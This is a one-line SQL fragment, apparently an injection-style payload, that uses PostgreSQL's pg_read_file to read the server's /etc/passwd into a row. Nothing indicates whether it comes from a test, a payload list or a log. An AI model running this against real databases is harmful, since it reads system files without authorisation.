VALUES (1, pg_read_file('/etc/passwd'))
